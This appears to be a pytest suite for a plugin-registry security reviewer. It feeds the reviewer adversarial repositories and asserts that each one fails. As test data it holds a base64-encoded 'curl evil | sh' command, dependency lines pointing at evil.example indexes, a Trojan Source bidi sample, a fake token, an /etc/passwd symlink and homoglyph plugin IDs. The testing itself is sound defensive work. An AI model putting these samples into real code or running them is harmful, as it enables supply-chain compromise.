"""Adversarial plugin repositories: each gives its expected finding and a clean, explained failure.

Every plugin here is a real git repository at a real tag. None of its code is ever run: the
canary test plants code that would write a file if setup.py, conftest.py, __init__.py, the entry
point or the plugin's tests were executed or imported, and checks that the file never appears.

A review here runs every check but the scanners (bandit, GuardDog, pip-audit) unless the test is marked
``scanners`` (all of them, or the named checks): each finding of our own checks needs none of them.
"""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from tests.support.plugins import GOOD_PLUGIN, edit_manifest, make_repo
from tests.support.review import ReviewFn, ids

from wxreg.review.context import OwnershipFacts, ToolConfig
from wxreg.review.engine import ReviewOptions, ReviewRequest, review
from wxreg.review.findings import Severity
from wxreg.review.submission import Submission
from wxsandbox.osv import OsvStandIn

MANIFEST = json.loads((GOOD_PLUGIN / "plugin.json").read_text(encoding="utf-8"))


def issue_submission(**changes: Any) -> Submission:
    base = Submission.from_manifest(MANIFEST, "https://github.com/example-author/daily-quote-reply", "v1.0.0")
    return replace(base, source="issue", author_github="example-author", **changes)


@pytest.mark.scanners
def test_good_plugin_passes_with_high_security_score(review_plugin: ReviewFn, osv: OsvStandIn) -> None:
    before = len(osv.queries)
    result = review_plugin()
    assert result.passed, [f.message for f in result.findings]
    assert result.scores.security >= 90 and result.scores.quality >= 90
    assert result.commit and result.digest and result.digest.startswith("h1:")
    assert not [f for f in result.findings if f.severity != Severity.INFO]
    assert ("requests", "2.32.3") in osv.queries[before:]


@pytest.mark.scanners
def test_scores_are_deterministic(review_plugin: ReviewFn) -> None:
    files = {"main.py": (GOOD_PLUGIN / "main.py").read_text() + "\nimport subprocess\n"}
    first, second = review_plugin(files), review_plugin(files)
    assert (first.scores, first.findings) == (second.scores, second.findings)


@pytest.mark.scanners
def test_canary_is_never_written(review_plugin: ReviewFn, tmp_path: Path) -> None:
    canary = tmp_path / "CANARY"
    payload = f"open({str(canary)!r}, 'w').write('ran')\n"
    result = review_plugin(
        {
            "setup.py": "from setuptools import setup\n" + payload + "setup(name='x')\n",
            "conftest.py": payload,
            "__init__.py": payload,
            "tests/conftest.py": payload,
            "tests/test_boom.py": payload + "def test_x():\n    pass\n",
            "main.py": (GOOD_PLUGIN / "main.py").read_text() + payload,
            "pyproject.toml": "[build-system]\nrequires=['setuptools']\nbuild-backend='setuptools.build_meta'\n",
            "requirements.txt": "requests==2.32.3\n",
        }
    )
    assert not canary.exists()
    assert {"WXR-D007", "WXR-P001"} <= ids(result)
    assert not result.passed


@pytest.mark.scanners("dependencies")
@pytest.mark.parametrize(
    "line",
    [
        "-e .",
        "--index-url https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "-r other.txt",
        "git+https://github.com/attacker/requests",
        "requests @ https://evil.example/requests.tar.gz",
        "./vendor/requests",
        "../requests-2.32.3-py3-none-any.whl",
        "requests==2.32.3 --hash=sha256:abc",
    ],
)
def test_requirement_lines_with_options_urls_or_paths(review_plugin: ReviewFn, line: str) -> None:
    result = review_plugin({"requirements.txt": f"{line}\n"})
    assert "WXR-D001" in ids(result)
    assert not result.passed


@pytest.mark.scanners("dependencies")
def test_unpinned_dependency_is_an_error(review_plugin: ReviewFn) -> None:
    result = review_plugin(
        {"requirements.txt": "requests>=2.0\n", "plugin.json": edit_manifest(dependencies=["requests>=2.0"])}
    )
    unpinned = [f for f in result.findings if f.id == "WXR-D003"]
    assert len(unpinned) == 1 and unpinned[0].path == "requirements.txt"  # once, not again for plugin.json
    assert not result.passed
    # Pinned in requirements.txt but not in plugin.json (or the other way round) is still unpinned.
    half = review_plugin(
        {"requirements.txt": "requests==2.32.3\n", "plugin.json": edit_manifest(dependencies=["requests>=2.0"])}
    )
    assert [(f.id, f.path) for f in half.findings if f.id == "WXR-D003"] == [("WXR-D003", "plugin.json")]


@pytest.mark.scanners("dependencies")
def test_vulnerable_dependency(review_plugin: ReviewFn) -> None:
    manifest = edit_manifest(dependencies=["requests==2.32.3", "urllib3==1.26.4"])
    result = review_plugin({"requirements.txt": "requests==2.32.3\nurllib3==1.26.4\n", "plugin.json": manifest})
    vuln = [f for f in result.findings if f.id == "WXR-D004"]
    assert vuln and "GHSA-test-0001" in vuln[0].message and "1.26.5" in vuln[0].fix
    assert not result.passed


@pytest.mark.scanners("dependencies")
def test_failed_audit_fails_the_check(tmp_path: Path, options: ReviewOptions) -> None:
    with OsvStandIn() as osv:  # an error answer (404 with an OSV error body) for every query
        repo = make_repo(tmp_path / "p")
        opts = replace(options, tools=ToolConfig(osv_url=f"{osv.url}/v1/unavailable"))
        result = review(ReviewRequest(str(repo), "v1.0.0"), opts)
    assert "WXR-D005" in ids(result) and not result.passed


@pytest.mark.scanners("dependencies")
def test_unreachable_audit_service_fails_the_check(tmp_path: Path, options: ReviewOptions) -> None:
    repo = make_repo(tmp_path / "p")
    opts = replace(options, tools=ToolConfig(osv_url="http://127.0.0.1:9/v1/query", network_timeout_seconds=2))
    result = review(ReviewRequest(str(repo), "v1.0.0"), opts)
    assert "WXR-D005" in ids(result) and not result.passed


SHELL = "import subprocess\n\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)  # nosec B602\n"


@pytest.mark.scanners("security")
def test_nosec_and_bandit_config_tricks_change_nothing(review_plugin: ReviewFn) -> None:
    result = review_plugin(
        {
            "tool.py": SHELL,
            ".bandit": "[bandit]\nskips: B602,B603,B404\nexclude: ./\n",
            "sub/.bandit": "[bandit]\nskips: B602\n",
            "bandit.yaml": "skips: ['B602']\nexclude_dirs: ['.']\n",
            "pyproject.toml": "[tool.bandit]\nskips = ['B602']\n",
            ".tox/hidden.py": SHELL,
            "x.egg/hidden.py": SHELL,
            "plugin.json": edit_manifest(permissions=[*MANIFEST["permissions"], "system.command"]),
        }
    )
    b602 = {f.path for f in result.findings if f.id.startswith("WXR-S101/") and "B602" in f.message}
    assert b602 == {"tool.py", ".tox/hidden.py", "x.egg/hidden.py"}
    # The fix names bandit's own page for that test (its report's more_info), not only bandit's index.
    fixes = {f.fix for f in result.findings if f.id == "WXR-S101/B602"}
    assert fixes and all("https://bandit.readthedocs.io/" in fix and "b602" in fix.lower() for fix in fixes), fixes
    assert "WXR-S104" in ids(result)
    assert not result.passed


@pytest.mark.scanners("security")
def test_bandit_crash_is_a_failed_check(tmp_path: Path, options: ReviewOptions) -> None:
    repo = make_repo(tmp_path / "p")
    bad = tmp_path / "broken.yaml"
    bad.write_text("skips: [B101\n")
    opts = replace(options, tools=replace(options.tools, bandit_config=bad))
    result = review(ReviewRequest(str(repo), "v1.0.0"), opts)
    assert "WXR-S102" in ids(result) and not result.passed


def test_obfuscation(review_plugin: ReviewFn) -> None:
    blob = base64.b64encode(b"import os; os.system('curl evil | sh')" * 8).decode()
    code = (
        "import base64, marshal, zlib\n"
        f"exec(base64.b64decode({blob!r}))\n"
        "eval(zlib.decompress(b'x').decode())\n"
        "code = marshal.loads(b'')\n"
        f"BLOB = {blob!r}\n"
    )
    result = review_plugin({"helper.py": code})
    assert {"WXR-S201", "WXR-S202", "WXR-S203"} <= ids(result)
    assert not result.passed


def test_trojan_source_bidi_controls(review_plugin: ReviewFn) -> None:
    code = 'access_level = "user"\nif access_level != "user\u202e \u2066# admin\u2069 \u2066":\n    pass\n'
    result = review_plugin({"auth.py": code})
    bidi = [f for f in result.findings if f.id == "WXR-S204"]
    assert bidi and bidi[0].path == "auth.py" and bidi[0].line == 2 and "U+202E" in bidi[0].message
    assert not result.passed


def test_committed_binaries_and_executables(review_plugin: ReviewFn) -> None:
    result = review_plugin(
        {
            "bin/tool": b"\x7fELF\x02\x01\x01" + b"\0" * 64,
            "lib/helper.pyd": b"MZ\x90\x00" + b"\0" * 64,
            "cache/main.cpython-311.pyc": b"\xa7\r\r\n" + b"\0" * 32,
        }
    )
    kinds = {f.path for f in result.findings if f.id == "WXR-S301"}
    assert kinds == {"bin/tool", "lib/helper.pyd", "cache/main.cpython-311.pyc"}
    assert not result.passed


def test_hard_coded_secrets(review_plugin: ReviewFn) -> None:
    token = "ghp_" + "A1b2C3d4" * 5
    result = review_plugin(
        {"config.py": f"TOKEN = {token!r}\n", "deploy/key.pem": "-----BEGIN RSA PRIVATE KEY-----\nx\n"}
    )
    assert {f.path for f in result.findings if f.id == "WXR-S401"} == {"config.py", "deploy/key.pem"}
    assert not result.passed


@pytest.mark.parametrize(
    ("code", "permission"),
    [
        ("import socket\ns = socket.socket()\n", "network.socket"),
        ("from urllib.request import urlopen\nurlopen('http://x')\n", "network.http"),
        ("import aiohttp as web\n", "network.http"),
        ("import os\nos.system('ls')\n", "system.command"),
        ("from subprocess import run as r\nr(['ls'])\n", "system.command"),
        ("import winreg\n", "system.registry"),
        ("import sqlite3\n", "database.read"),
        ("from pathlib import Path\nPath('x').write_text('y')\n", "file.write"),
        ("open('state.json', 'a').write('x')\n", "file.write"),
        ("__import__('socket')\n", "network.socket"),
        ("import os\ngetattr(os, 'system')('id')\n", "system.command"),
    ],
)
def test_undeclared_use_is_an_error(review_plugin: ReviewFn, code: str, permission: str) -> None:
    manifest = edit_manifest(permissions=["config.read", "message.process"])
    result = review_plugin({"extra.py": code, "plugin.json": manifest})
    undeclared = [f for f in result.findings if f.id == "WXR-P001" and f.path == "extra.py"]
    assert undeclared and permission in undeclared[0].message, [f.message for f in result.findings]
    assert not result.passed


@pytest.mark.parametrize(
    "code",
    [
        "import importlib\nname = 'sub' + 'process'\nimportlib.import_module(name)\n",
        "import os\nfn = getattr(os, 'sys' + 'tem')\n",
    ],
)
def test_dynamic_import_is_an_error(review_plugin: ReviewFn, code: str) -> None:
    result = review_plugin({"extra.py": code})
    assert "WXR-E002" in ids(result) and not result.passed


@pytest.mark.parametrize(
    ("python_version", "code"),
    [
        (">=3.7", "if (n := 10) > 5:\n    pass\n"),
        (">=3.8", "match x:\n    case 1:\n        pass\n"),
        (">=3.8", "def f(a: list[int]) -> dict[str, int]: ...\nwith (open('a') as a, open('b') as b):\n    pass\n"),
        (">=3.9", "try:\n    pass\nexcept* ValueError:\n    pass\n"),
    ],
)
def test_code_that_does_not_parse_at_the_declared_python(
    review_plugin: ReviewFn, python_version: str, code: str
) -> None:
    result = review_plugin({"newer.py": code, "plugin.json": edit_manifest(python_version=python_version)})
    assert [f.path for f in result.findings if f.id == "WXR-C002"] == ["newer.py"]
    assert not result.passed


@pytest.mark.scanners("security")
def test_syntax_error_is_never_unscanned(review_plugin: ReviewFn) -> None:
    result = review_plugin({"broken.py": "def (:\n"})
    assert {"WXR-S103", "WXR-C002"} <= ids(result) and not result.passed


def test_compatibility_ranges(review_plugin: ReviewFn) -> None:
    result = review_plugin({"plugin.json": edit_manifest(min_wxauto_version="2.1", max_wxauto_version="2.0.9")})
    assert "WXR-C003" in ids(result)
    result = review_plugin({"plugin.json": edit_manifest(python_version="3.8 or later")})
    assert {"WXR-C001", "WXR-M003"} <= ids(result)


def test_missing_tag_fails_cleanly(review_plugin: ReviewFn) -> None:
    result = review_plugin(review_tag="v2.0.0")
    assert ids(result) == {"WXR-G002"} and result.commit is None and not result.passed


def test_moved_tag_fails(review_plugin: ReviewFn) -> None:
    result = review_plugin(expected_commit="0" * 40)
    assert "WXR-G003" in ids(result) and not result.passed


def test_symlink_out_of_the_tree_fails(review_plugin: ReviewFn, tmp_path: Path) -> None:

    repo = make_repo(tmp_path / "linked", tag=None)
    (repo / "docs" / "passwd").symlink_to("/etc/passwd")
    from tests.support.plugins import git

    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "link")
    git(repo, "tag", "v1.0.0")
    from wxreg.review.policy import load_policy

    opts = ReviewOptions(
        policy=load_policy(),
        tools=ToolConfig(osv_url="http://127.0.0.1:9/v1/query"),
        registry_dir=tmp_path / "none",
        checks=(),
    )
    result = review(ReviewRequest(str(repo), "v1.0.0"), opts)
    assert "WXR-G004" in ids(result) and not result.passed


def test_numerous_files_fail_before_any_check(review_plugin: ReviewFn, options: ReviewOptions) -> None:
    limits = replace(options.policy.limits, max_files=20)
    opts = replace(options, policy=replace(options.policy, limits=limits))
    result = review_plugin({f"junk/{i}.txt": "x" for i in range(30)}, opts=opts)
    assert ids(result) == {"WXR-G006"} and not result.passed


def test_manifest_problems(review_plugin: ReviewFn) -> None:
    assert "WXR-M001" in ids(review_plugin(remove=("plugin.json",)))
    assert "WXR-M002" in ids(review_plugin({"plugin.json": "{not json"}))
    assert "WXR-M005" in ids(review_plugin(tag="v1.0.1"))
    assert "WXR-M006" in ids(review_plugin({"plugin.json": edit_manifest(entry_point="plugin/main.py")}))
    assert "WXR-M007" in ids(review_plugin({"plugin.json": edit_manifest(class_name="Missing")}))


def test_submission_must_agree_with_the_manifest(review_plugin: ReviewFn) -> None:
    sub = issue_submission(version="1.0.1", permissions=("network.https",), license="Apache-2.0")
    result = review_plugin(submission=sub)
    assert {"WXR-M004", "WXR-P004", "WXR-L004"} <= ids(result) and not result.passed


def test_structure_and_licence(review_plugin: ReviewFn) -> None:
    result = review_plugin(remove=("LICENSE", "CHANGELOG.md", "docs", "tests"))
    assert "WXR-Q001" in ids(result) and not result.passed
    assert sum(1 for f in result.findings if f.id == "WXR-Q002") == 3
    result = review_plugin({"README.md": "# x\n\nshort\n"})
    assert {"WXR-Q003", "WXR-Q005"} <= ids(result)
    assert "WXR-L001" in ids(review_plugin({"plugin.json": edit_manifest(license="Proprietary-ish")}))
    assert "WXR-L002" in ids(review_plugin({"LICENSE": "All rights reserved.\n"}))


def write_registry(options: ReviewOptions, listed: list[dict[str, Any]], removed: list[dict[str, Any]]) -> None:
    for entry in listed:
        path = options.registry_dir / "plugins" / f"{entry['plugin_id']}.json"
        path.write_text(json.dumps(entry, ensure_ascii=False), encoding="utf-8")
    (options.registry_dir / "removed.json").write_text(json.dumps(removed), encoding="utf-8")


def listed(plugin_id: str, name: str = "Other", url: str = "https://github.com/someone/other") -> dict[str, Any]:
    return {"plugin_id": plugin_id, "name": name, "repository": {"primary": {"url": url}}}


@pytest.mark.parametrize(
    ("existing", "finding"),
    [
        (listed("daily_quote_rep1y"), "WXR-I003"),
        (listed("dailyquote_reply"), "WXR-I003"),
        (listed("daily_quote_repl"), "WXR-I003"),
        (listed("daily_quote_replу"), "WXR-I003"),  # Cyrillic у
        (listed("quotes_of_the_day", name="每日一句 Daily-Quote"), "WXR-I006"),
    ],
)
def test_look_alikes_of_listed_plugins(
    review_plugin: ReviewFn, options: ReviewOptions, existing: dict[str, Any], finding: str
) -> None:
    write_registry(options, [existing], [])
    result = review_plugin()
    assert finding in ids(result) and not result.passed


def test_tombstoned_ids_and_look_alikes(review_plugin: ReviewFn, options: ReviewOptions) -> None:
    write_registry(options, [], [{"plugin_id": "daily_quote_reply", "reason": "malware", "severity": "critical",
                                  "date": "2026-01-01"}])  # fmt: skip
    assert "WXR-I004" in ids(review_plugin())
    write_registry(options, [], [{"plugin_id": "Daily-Quote-Reply", "reason": "x", "severity": "removed",
                                  "date": "2026-01-01"}])  # fmt: skip
    assert "WXR-I005" in ids(review_plugin())


@pytest.mark.parametrize(("plugin_id", "finding"), [("wxauto_helper", "WXR-I002"), ("official_bot", "WXR-I002"),
                                                    ("test", "WXR-I002"), ("Daily_Quote", "WXR-I001"),
                                                    ("dаily_quote", "WXR-I001")])  # fmt: skip
def test_id_rules_and_reserved_words(review_plugin: ReviewFn, plugin_id: str, finding: str) -> None:
    result = review_plugin({"plugin.json": edit_manifest(plugin_id=plugin_id)})
    assert finding in ids(result) and not result.passed


def test_update_must_come_from_the_recorded_repository(review_plugin: ReviewFn, options: ReviewOptions) -> None:
    write_registry(options, [listed("daily_quote_reply", url="https://github.com/original/daily-quote")], [])
    result = review_plugin(submission=issue_submission())
    assert "WXR-O002" in ids(result) and not result.passed


@pytest.mark.parametrize(
    ("facts", "expected"),
    [
        (OwnershipFacts("example-author", "example-author", "admin"), set()),
        (OwnershipFacts("helper", "example-author", "write"), set()),
        (OwnershipFacts("stranger", "example-author", "read"), {"WXR-O001"}),
        (OwnershipFacts("stranger", "example-author", None), {"WXR-O001"}),
        (OwnershipFacts("x", "example-author", None, error="HTTP 502"), {"WXR-O003"}),
    ],
)
def test_new_plugin_ownership(review_plugin: ReviewFn, facts: OwnershipFacts, expected: set[str]) -> None:
    result = review_plugin(submission=issue_submission(), ownership=facts, ownership_required=True)
    assert {i for i in ids(result) if i.startswith("WXR-O")} == expected


def test_missing_ownership_facts_fail_closed_in_github_mode(review_plugin: ReviewFn) -> None:
    result = review_plugin(submission=issue_submission(), ownership_required=True)
    assert "WXR-O003" in ids(result) and not result.passed


def test_a_crashing_check_fails_the_review(tmp_path: Path, options: ReviewOptions) -> None:
    class Boom:
        name = "boom"

        def run(self, ctx: object) -> list[Any]:
            raise RuntimeError("scanner exploded")

    repo = make_repo(tmp_path / "p")
    result = review(ReviewRequest(str(repo), "v1.0.0"), replace(options, checks=(Boom(),)))
    assert ids(result) == {"WXR-X001"} and not result.passed


def test_corrupt_registry_fails_identity_closed(review_plugin: ReviewFn, options: ReviewOptions) -> None:
    (options.registry_dir / "removed.json").write_text("{broken")
    result = review_plugin()
    assert "WXR-X001" in ids(result) and not result.passed


def test_gitee_mirror_must_hold_the_same_tag_at_the_same_commit(
    git_http: tuple[str, Path], tmp_path: Path, options: ReviewOptions
) -> None:
    from tests.support.plugins import git, publish

    url, root = git_http
    work = make_repo(tmp_path / "work")
    publish(root, work, owner="author", name="plugin")
    publish(root, work, owner="mirror", name="same")
    (work / "CHANGELOG.md").write_text("drift\n")
    git(work, "commit", "-qam", "drift")
    git(work, "tag", "-f", "v1.0.0")
    publish(root, work, owner="mirror", name="drifted")
    opts = replace(options, policy=options.policy.with_extra_url_prefixes((url + "/",)))

    def mirror_ids(mirror: str) -> set[str]:
        sub = issue_submission(github_repo=f"{url}/author/plugin", gitee_repo=mirror)
        result = review(ReviewRequest(f"{url}/author/plugin", "v1.0.0", sub, remote_only=True), opts)
        return {i for i in ids(result) if i in ("WXR-G011", "WXR-G012")}

    assert mirror_ids(f"{url}/mirror/same") == set()
    assert mirror_ids(f"{url}/mirror/drifted") == {"WXR-G011"}
    assert mirror_ids(f"{url}/mirror/missing") == {"WXR-G012"}
    assert mirror_ids("https://evil.example/x/y") == {"WXR-G012"}


@pytest.mark.parametrize("repo", ["", ".", "/etc", "../..", "tests/fixtures/plugins/good-plugin"])
def test_a_repository_from_untrusted_input_is_never_a_local_path(options: ReviewOptions, repo: str) -> None:
    result = review(ReviewRequest(repo, "v1.0.0", issue_submission(github_repo=repo), remote_only=True), options)
    assert ids(result) == {"WXR-G001"} and result.commit is None and not result.passed


@pytest.mark.scanners
def test_good_plugin_against_the_example_registry(tmp_path: Path, options: ReviewOptions) -> None:
    from tests.support.plugins import REPO_ROOT

    from wxreg.review.context import load_registry_index

    registry = REPO_ROOT / "tests" / "fixtures" / "registry-example" / "registry"
    index = load_registry_index(registry)
    assert len(index.listed) >= 3 and index.removed and index.listed[0].repo_url.startswith("https://")
    repo = make_repo(tmp_path / "p")
    result = review(ReviewRequest(str(repo), "v1.0.0"), replace(options, registry_dir=registry))
    assert result.passed and result.scores.security >= 90
    clash = make_repo(tmp_path / "q", {"plugin.json": edit_manifest(plugin_id="free_vip_unl0cker")})
    result = review(ReviewRequest(str(clash), "v1.0.0"), replace(options, registry_dir=registry))
    assert "WXR-I005" in ids(result)


def test_a_tag_the_registry_pinned_must_not_move(review_plugin: ReviewFn, options: ReviewOptions) -> None:
    entry = listed("daily_quote_reply", url="https://github.com/example-author/daily-quote-reply")
    entry["release"] = {"tag": "v1.0.0", "commit": "1" * 40, "digest": "h1:" + "A" * 43 + "="}
    write_registry(options, [entry], [])
    result = review_plugin()
    moved = [f for f in result.findings if f.id == "WXR-G003"]
    assert moved and "1111111" in moved[0].message and not result.passed


def test_primary_repository_must_be_on_github_mirror_on_gitee(options: ReviewOptions) -> None:
    sub = issue_submission(github_repo="https://gitee.com/author/plugin")
    result = review(ReviewRequest(sub.github_repo, "v1.0.0", sub, remote_only=True), options)
    assert ids(result) == {"WXR-G001"}
    assert options.policy.mirror_url_prefixes == ("https://gitee.com/",)


def test_only_bandits_own_documentation_is_linked() -> None:
    from wxreg.review.checks.security import BANDIT_DOCS, _bandit_page

    page = "https://bandit.readthedocs.io/en/1.9.4/plugins/b602_subprocess_popen_with_shell_equals_true.html"
    assert _bandit_page(page) == page
    for other in ("https://evil.example/x", "https://bandit.readthedocs.io/x y", None, 3, "https://bandit.readthedocs.io/",
                  "https://bandit.readthedocs.io.evil.example/x", "https://bandit.readthedocs.io@evil.example/x",
                  "http://bandit.readthedocs.io/x", "https://bandit.readthedocs.io/x\nhttps://evil.example/"):
        assert _bandit_page(other) == BANDIT_DOCS
